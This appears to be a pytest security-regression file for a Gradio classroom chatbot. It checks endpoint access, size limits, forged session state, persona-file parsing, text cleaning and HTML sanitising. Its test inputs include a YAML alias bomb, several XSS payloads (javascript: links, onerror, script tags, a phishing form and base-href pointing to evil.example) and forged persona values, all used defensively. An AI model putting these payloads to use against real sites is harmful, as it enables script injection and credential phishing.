"""What an adversarial probe broke in the page (apart from what only a browser shows, which is in
test_browser.py): calls to private events, huge requests, forged browser state, broken persona
files, invisible characters, the badge, the rate limiter's keys."""

from __future__ import annotations

import gc
import json
import time
import uuid
from pathlib import Path
from typing import Any

import httpx
import pytest
from gradio_client import Client

from agora import startup
from agora.classroom import Session
from agora.classroom.admission import RateLimiter, clean
from agora.client.backend import origin
from agora.config import Settings
from agora.personas import PersonaError, load_personas, parse_personas
from agora.web.page import AgoraPage
from agora.web.sanitise import safe_html
from tests.support import personas_without_samples, running_app

GOOD_ENTRY = """
- id: {id}
  name: Socrates
  dates: c. 470–399 BCE
  tagline: The gadfly of Athens
  avatar: 🏛️
  greeting: Greetings, friend.
  examples:
    - What is justice?
    - Can virtue be taught?
    - Is it ever right to break the law?
  instructions: You are Socrates of Athens. Answer with questions.
"""


def call(url: str, fn_index: int, data: list[Any], **headers: str) -> httpx.Response:
    """Join the queue for one event, as the page (or anyone) does over HTTP."""
    return httpx.post(f"{url}gradio_api/queue/join", headers=headers, json={
        "fn_index": fn_index, "data": data, "session_hash": uuid.uuid4().hex[:11], "event_data": None,
        "trigger_id": None})


# ------------------------------------------------------------------ the page's HTTP endpoints


def test_private_events_answer_the_page_only() -> None:
    with running_app() as agora:
        private, _ = agora.demo.private_events()
        export = next(i for i, fn in agora.demo.fns.items() if fn.name == "export")
        assert export in private and len(private) >= 8
        for fn_index in private:
            refused = call(agora.url, fn_index, [])
            assert refused.status_code == 403 and "not part of the API" in refused.text
        forged_elsewhere = call(agora.url, export, [], origin="https://evil.example")
        assert forged_elsewhere.status_code == 403
        # The page itself (a browser sends these headers with every call it makes):
        assert call(agora.url, export, [[], "plato", None], **{"sec-fetch-site": "same-origin"}).status_code == 200
        host = agora.url.removeprefix("http://").rstrip("/")
        assert call(agora.url, export, [[], "plato", None], origin=f"http://{host}").status_code == 200
        # The public chat endpoint stays open to API clients.
        assert Client(agora.url, verbose=False).predict("hello", "plato", api_name="/chat").startswith("[turn 1]")


def test_requests_and_uploads_over_the_limit_get_413() -> None:
    with running_app({"AGORA_MAX_UPLOAD_MB": "1"}) as agora:
        huge = "x" * (1 << 20)
        answer = httpx.post(f"{agora.url}gradio_api/queue/join", json={"fn_index": 0, "data": [huge],
                                                                        "session_hash": "abc"})
        assert answer.status_code == 413 and "limit of 1024 KB" in answer.json()["detail"]
        upload = httpx.post(f"{agora.url}gradio_api/upload", files={"files": ("card.json", b"{" + b" " * (1 << 20))})
        assert upload.status_code == 413
        assert Client(agora.url, verbose=False).predict("still here?", "plato", api_name="/chat").startswith("[turn 1]")


# ------------------------------------------------------------------ browser state is a hint


@pytest.fixture
def page(tmp_path: Path) -> Any:
    with personas_without_samples() as personas:
        settings = Settings.from_env({"AGORA_ENGINE": "scripted", "AGORA_DB": str(tmp_path / "agora.db"),
                                      "AGORA_PERSONAS": str(personas), "AGORA_CUSTOM_MODELS": "allowed-model"})
        page = AgoraPage(startup.classroom(settings))
        yield page
        page.close()
        page.classroom.backend.close()


FORGED_PERSONA = {"id": "custom", "name": "Mallory", "dates": "now", "tagline": "t", "avatar": "x",
                  "greeting": "Hi", "examples": ["a?", "b?", "c?"], "instructions": "You are Mallory, a forger of notes.",
                  "model": "o1-pro-billed-to-the-teacher", "temperature": 2.0, "assistant_id": "asst_someone_else"}


def test_a_forged_custom_persona_cannot_choose_its_model_or_parameters(page: AgoraPage) -> None:
    session = Session()
    page.restore({"custom_persona": FORGED_PERSONA}, session, "en-US", None)  # type: ignore[arg-type]
    assert session.custom is not None and session.custom.instructions == FORGED_PERSONA["instructions"]
    assert session.custom.model is None and session.custom.temperature is None and session.custom.assistant_id is None
    assert page.classroom.backend.model_for(session.custom) == page.classroom.backend.default_model
    allowed = Session()
    page.restore({"custom_persona": {**FORGED_PERSONA, "model": "allowed-model"}}, allowed, "en-US", None)  # type: ignore[arg-type]
    assert allowed.custom is not None and allowed.custom.model == "allowed-model"  # on the teacher's allow-list


def test_conversation_ids_from_the_browser_need_the_servers_seal(page: AgoraPage) -> None:
    mine = Session()
    mine.conversation.persona_id = "plato"
    mine.conversation.thread_id = "thread_mine"
    saved = page.remember([{"role": "assistant", "content": "hi"}], "plato", mine, {})
    restored = Session()
    page.restore(saved, restored, "en-US", None)  # type: ignore[arg-type]
    assert restored.conversation.thread_id == "thread_mine"  # what this server handed out comes back
    forged = json.loads(json.dumps(saved))
    forged["plato"]["conversation"]["thread_id"] = "thread_of_another_student"
    victim = Session()
    page.restore(forged, victim, "en-US", None)  # type: ignore[arg-type]
    assert victim.conversation.thread_id is None and victim.conversation.persona_id == "plato"
    unsealed = json.loads(json.dumps(saved))
    del unsealed["plato"]["conversation"]["seal"]
    page.restore(unsealed, victim, "en-US", None)  # type: ignore[arg-type]
    assert victim.conversation.thread_id is None
    seal = saved["plato"]["conversation"]["seal"]
    assert seal not in json.dumps(page.get_config_file(), default=str) and page.classroom.seal._key.hex() not in json.dumps(page.get_config_file(), default=str)


# ------------------------------------------------------------------ persona files


def test_yaml_aliases_are_refused_before_expansion(tmp_path: Path) -> None:
    bomb = tmp_path / "personas.yaml"
    layers = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    layers += [f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
               f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]" for i in range(8)]
    bomb.write_text("\n".join(layers) + "\n", encoding="utf-8")
    began = time.perf_counter()
    with pytest.raises(PersonaError) as refused:
        load_personas(bomb)
    assert time.perf_counter() - began < 1
    message = str(refused.value)
    assert message.startswith(str(bomb)) and "aliases (*a) are not allowed" in message and "line 2" in message
    assert len(message) < 200 and "\n" not in message


def test_a_persona_file_that_is_not_utf8_gets_one_line(tmp_path: Path) -> None:
    latin1 = tmp_path / "personas.yaml"
    latin1.write_bytes(GOOD_ENTRY.format(id="socrates").replace("Greetings", "Salut, très cher").encode("latin-1",
                                                                                                        "replace"))
    with pytest.raises(PersonaError, match=r"personas\.yaml: not UTF-8 text \(byte 0xe8 at offset \d+\)"):
        load_personas(latin1)
    utf16 = tmp_path / "utf16.yaml"
    utf16.write_bytes(GOOD_ENTRY.format(id="socrates").encode("utf-16"))
    with pytest.raises(PersonaError, match=r"utf16\.yaml: not UTF-8 text"):
        load_personas(utf16)


def test_custom_is_a_reserved_persona_id() -> None:
    with pytest.raises(PersonaError, match="id: 'custom' is reserved"):
        parse_personas(GOOD_ENTRY.format(id="custom"), "mine.yaml")


# ------------------------------------------------------------------ text


def test_clean_strips_every_invisible_character_but_joiners_inside_words() -> None:
    invisible = "\u2060\u2061\u2062\u2063\u2064\ufeff\u200b\u00ad\u061c\u180e\U000e0041\U000e007f\u2028\u2029\u202e\ud800"
    assert clean(f"Is{invisible} virtue teachable?") == "Is virtue teachable?"
    assert clean("می\u200cخواهم") == "می\u200cخواهم"  # Persian: the ZWNJ is part of the spelling
    assert clean("क्\u200dष") == "क्\u200dष"  # Devanagari conjunct with ZWJ
    assert clean("👩\u200d🏫 teacher") == "👩\u200d🏫 teacher"  # an emoji ZWJ sequence
    assert clean("\u200d\u200cstray joiners\u200d ") == "stray joiners"
    assert clean("  a\tb\r\nc\x00\x1b[31m  ") == "a\tb\nc[31m"


@pytest.mark.parametrize("payload", [
    '<svg><a href="javascript:alert(1)"><text x="10" y="20">click</text></a></svg>',
    '<math><mtext><a href="javascript:alert(1)">m</a></mtext></math>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href=" JAVASCRIPT:alert(1)">caps</a>',
    '[md](javascript:alert(1)) [md2](&#106;avascript:alert(1)) [md3](java\tscript:alert(1))',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    '<div style="position:fixed;inset:0;background:red">overlay</div>',
    '<img src=x onerror=alert(1)><iframe src="javascript:alert(1)"></iframe><script>alert(1)</script>',
    '<a href="vbscript:msgbox(1)">vb</a><object data="x.swf"></object><base href="https://evil.example/">',
])
def test_safe_html_keeps_no_script_form_or_overlay(payload: str) -> None:
    shown = safe_html(payload).lower()
    for bad in ("javascript:", "vbscript:", "<svg", "<math", "<form", "<input", "<button", "style=", "onerror",
                "<iframe", "<script", "<object", "<base", "<img"):
        assert bad not in shown, (bad, shown)


def test_safe_html_keeps_markdown_and_harmless_html() -> None:
    text = "> To know is to know that you know nothing.\n\n**Virtue** is *knowledge*; 2 < 3 & 5 > 4.\n\n- one\n- two"
    # Quotes and lists stay markdown; '<' and '&' are escaped (markdown shows them as they were typed).
    assert safe_html(text) == text.replace("2 < 3 & 5", "2 &lt; 3 &amp; 5")
    assert safe_html('<b>bold</b> <a href="https://plato.stanford.edu">SEP</a>') == (
        '<b>bold</b> <a href="https://plato.stanford.edu" rel="noopener noreferrer nofollow">SEP</a>')


# ------------------------------------------------------------------ smaller things


def test_the_badge_shows_scheme_host_and_port_only() -> None:
    url = "https://teacher:hunter2@llm.school.example:8443/v1/secret-path?token=abc"
    assert origin(url) == "https://llm.school.example:8443"
    settings = Settings.from_env({"OPENAI_BASE_URL": url, "AGORA_API": "chat", "AGORA_MODEL": "m", "AGORA_DB": ":memory:"})
    page = AgoraPage(startup.classroom(settings))
    page_config = json.dumps(page.get_config_file(), default=str)
    assert "llm.school.example:8443" in page.classroom.about_backend("en")
    for secret in ("hunter2", "teacher:", "secret-path", "token=abc"):
        assert secret not in page.classroom.about_backend("en") and secret not in page_config


@pytest.mark.slow
def test_the_rate_limiter_keys_on_session_ids_and_forgets_idle_ones() -> None:
    limiter = RateLimiter(1, None)
    for _ in range(200):  # new sessions, the old ones collected: CPython hands their addresses out again
        assert limiter.check(Session().id, None) is None
        gc.collect()
    limiter.WINDOW = 0.2  # type: ignore[misc]
    time.sleep(0.3)
    assert limiter.check(Session().id, None) is None
    assert len(limiter) == 1  # only the newest session is remembered
    session = Session()
    assert limiter.check(session.id, None) is None and limiter.check(session.id, None) is not None


def test_building_the_page_writes_nothing_beside_its_modules(page: AgoraPage) -> None:
    # Gradio writes a .pyi stub beside the module of each Component subclass; the chat's has none.
    assert sorted(Path(__file__).resolve().parent.parent.joinpath("agora").rglob("*.pyi")) == []
